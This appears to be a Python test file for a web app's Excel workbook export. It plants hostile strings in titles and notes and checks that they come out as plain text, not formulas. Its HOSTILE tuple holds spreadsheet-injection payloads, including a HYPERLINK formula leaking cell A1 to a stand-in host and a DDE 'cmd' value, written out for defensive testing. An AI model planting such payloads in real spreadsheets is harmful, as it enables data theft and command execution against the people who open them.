"""Titles, notes and reasons of the corpus in the database, out through the real workbook of a run: texts stay texts."""

import io
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import text as statement

from exports.cell_text import MAX_TEXT, cell_text
from tests.award.build import CHANTHABURI, TRAT, BuiltSite, build_site
from tests.award.hostile import signed_in
from tests.award.results import TRANSPARENT, calculated, change, value

HOSTILE = (
    '=HYPERLINK("http://a.example/?"&A1,"กด")', "+66 2 141 6000", "-2+3", "@SUM(A1:A9)", "'=1+1", "\t=1+1", "#REF!",
    "#N/A", "TRUE", "1E5", "0123", "ผู้ชนะ 🏆👩🏽\u200d🌾", "\u202eชนะ\u202c \u2067עברית\u2069", "ก\x00ข\x07ค\x1b[2K\x7f",
    "_x0041_ _x000D_", "<f>1+1</f>]]></t>", "น\u0e4d\u0e32 ก\u0e34\u0e4c\u0e4c", "ก" * 32_000, "{=1+1}", "DDE|'cmd'!A0",
)  # fmt: skip


def texts_and_formulas(data: bytes) -> tuple[dict[tuple[int, str], str], dict[tuple[int, str], str]]:
    """What stands in each cell (sheet, place): texts; and the formulas."""
    texts: dict[tuple[int, str], str] = {}
    formulas: dict[tuple[int, str], str] = {}
    for number, sheet in enumerate(load_workbook(io.BytesIO(data))):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.hyperlink is None
                assert cell.data_type != "e", f"{cell.coordinate} is an error"
                if cell.data_type == "f":
                    formulas[number, cell.coordinate] = str(cell.value)
                elif cell.data_type == "s":
                    texts[number, cell.coordinate] = str(cell.value)
    return texts, formulas


def workbook(site: BuiltSite, run: int) -> Any:
    return signed_in(site, "organizer").get(f"/r/run/{run}/workbook", buffered=True)


def poison(site: BuiltSite, texts: Sequence[str]) -> None:
    """The texts as notes beside marks, one after the other, and the first two as titles of the two entries."""
    for code, text in zip((f"to-{TRAT}", f"to-{CHANTHABURI}"), texts, strict=False):
        change(site, "update entry set label = :text where code = :code", text=text, code=code)
    marks = "select m.id from mark m join assignment a on a.id = m.assignment_id join entry e on e.id = a.entry_id "
    with site.database.reading() as db:
        ids = [row[0] for row in db.execute(statement(f"{marks} where e.code = 'to-{TRAT}' and m.value is not null"))]
    for number, mark in enumerate(ids):
        change(site, "update mark set note = :text where id = :id", text=texts[number % len(texts)], id=mark)


def test_titles_and_notes_that_look_like_formulas_come_out_letter_by_letter(tmp_path: Path) -> None:
    site = build_site(tmp_path)
    poison(site, [f"plain {number}" for number in range(len(HOSTILE))])
    _, plain = texts_and_formulas(workbook(site, calculated(site, TRANSPARENT)).data)
    for texts in (HOSTILE, HOSTILE[5:9]):
        poison(site, texts)
        answer = workbook(site, calculated(site, TRANSPARENT))
        assert answer.status_code == 200
        disposition = answer.headers["Content-Disposition"]
        assert disposition.isascii() and disposition.startswith('attachment; filename="transparent-office-')
        shown, formulas = texts_and_formulas(answer.data)
        everything = "\n".join(shown.values())
        assert [text[:40] for text in texts if cell_text(text) not in everything] == []
        assert {cell_text(text) for text in texts[:2]} <= set(shown.values()), "a title stands in a cell of its own"
        assert set(formulas) == set(plain), "no formula but ours, and all of ours"
        changed = [formula for place, formula in formulas.items() if formula != plain[place]]
        assert not any(word in formula for formula in changed for word in ("HYPERLINK", "1+1", "cmd"))


def test_a_text_longer_than_a_cell_is_refused_with_a_sentence(tmp_path: Path) -> None:
    site = build_site(tmp_path)
    poison(site, ["ก" * (MAX_TEXT + 1)])
    answer = workbook(site, calculated(site, TRANSPARENT))
    assert answer.status_code == 422
    assert 'data-refused="cell_too_long"' in answer.text
    assert "an Excel cell holds 32,767" in answer.text
    assert value(site, "select count(*) from ranking_run") > 0, "the run itself stands"
